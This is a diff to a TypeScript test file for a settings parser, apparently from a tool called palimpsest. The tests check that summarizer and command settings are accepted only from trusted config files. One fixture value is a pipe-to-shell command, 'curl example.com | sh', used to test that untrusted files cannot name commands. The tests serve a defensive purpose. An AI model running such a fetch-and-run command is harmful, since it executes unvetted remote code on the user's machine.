@@ -4,7 +4,7 @@ import { isCompactionError } from "../core/errors.ts";
 import { SETTINGS } from "../core/policy/settings.ts";
 import { parseSettings } from "./parse-settings.ts";
 
-const parse = (text: string, mayNameCommands = true) => parseSettings(text, { file: "p.yaml", mayNameCommands });
+const parse = (text: string, isTrusted = true) => parseSettings(text, { file: "p.yaml", isTrusted });
 
 describe("parseSettings", () => {
   it("reads every setting", () => {
@@ -137,10 +137,10 @@ describe("parseSettings", () => {
     "takes gateway.%s only from a file that somebody named: it decides where credentials and originals go",
     (key, to) => {
       const text = `gateway:\n  ${key}: ${to}`;
-      expect(() => parseSettings(text, { file: "p.yaml", mayNameCommands: false })).toThrow(
+      expect(() => parseSettings(text, { file: "p.yaml", isTrusted: false })).toThrow(
         `p.yaml:2:3: gateway.${key} is taken only from a file that was named with --config`,
       );
-      expect(parseSettings(text, { file: "p.yaml", mayNameCommands: true }).gateway).toBeDefined();
+      expect(parseSettings(text, { file: "p.yaml", isTrusted: true }).gateway).toBeDefined();
     },
   );
 
@@ -165,12 +165,19 @@ describe("parseSettings", () => {
     expect(many.at(-1)).toMatchObject({ key: "480 more faults" });
   });
 
-  it("takes a command only from a file that somebody named", () => {
-    const text = "compression:\n  summary_model: 'command:curl example.com | sh'";
-    expect(parse(text)).toMatchObject({ summaryModel: "command:curl example.com | sh" });
-    expect(() => parse(text, false)).toThrow(
-      "names a command, which is taken only from a file that was named with --config",
-    );
+  it.each(["command:curl example.com | sh", "openai:gpt-6", "anthropic:claude-haiku-5-5"])(
+    "takes %s as summarizer only from a file of the user's: whoever is asked reads the session",
+    (summaryModel) => {
+      const text = `compression:\n  summary_model: '${summaryModel}'`;
+      expect(parse(text)).toMatchObject({ summaryModel });
+      expect(() => parse(text, false)).toThrow(
+        "p.yaml:2:18: compression.summary_model names who is given the session to read, which is taken only from a file that was named with --config, from palimpsest.yaml in the palimpsest home, or from --summarizer",
+      );
+    },
+  );
+
+  it("lets any file do without a summarizer", () => {
+    expect(parse("compression:\n  summary_model: none", false)).toMatchObject({ summaryModel: "none" });
   });
 
   const name = fc.oneof(fc.constantFrom(...SETTINGS.map(({ key }) => key.split(".")[1] ?? "")), fc.string());
